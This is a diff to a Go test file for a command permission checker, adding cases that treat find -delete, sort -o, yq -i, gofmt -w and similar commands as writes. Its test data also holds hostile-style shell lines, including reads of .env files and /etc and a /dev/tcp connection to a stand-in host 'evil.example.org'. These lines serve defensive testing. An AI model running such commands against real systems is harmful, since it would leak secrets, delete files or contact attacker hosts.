@@ -55,6 +55,13 @@ func TestEachPartOfARuleCounts(t *testing.T) {
 		{deny: "read /etc/**", denied: "cat out/hosts; mytool -fout/hosts; mytool --a=out/hosts; mytool out/hosts", asked: "mytool -f"},
 		{deny: "read " + shop, denied: "mytool .", asked: "mytool -a"},
 		{deny: "read **/.env; write **/go.mod", denied: "cat .env; touch go.mod", asked: "cat go.mod"},
+		// A reader that changes, removes or has another program remove what it names writes it.
+		{deny: "write **/a",
+			denied: `find a -delete; find a -name x -exec rm {} +; find -L a -execdir sh -c x {} +; find a -ok mv {} b +; find . -fprint a;
+				find a -exec cat {} + -exec rm {} +; find a -exec yq -i x {} +; sudo find a -delete; fd x a -x rm; fd x a -X rm; fd x a --exec rm;
+				sort -uo a x; sort --output=a x; sort --out a x; yq -i x a; yq --inplace x a; gofmt -w a; tree -o a; less -O a x; base64 -o a`,
+			asked: `find a; find a -name x; find a -exec cat {} +; find a -exec grep -n x {} +; find a -ok echo {} +; sort -u a;
+				yq x a; gofmt -l a; tree --dirsfirst a; less a; base64 a; grep -o x a; ls -o a`},
 		{deny: "fetch evil.example.org", denied: "cat < /dev/tcp/evil.example.org/80; echo a > /dev/udp/EVIL.example.org/443",
 			asked: "cat < x/dev/tcp/evil.example.org/80; cat < /dev/tcp/evil.example.org/81"},
 		{allow: "run echo ...; fetch api.example.org:81", allowed: "echo a > /dev/tcp/api.example.org/81",
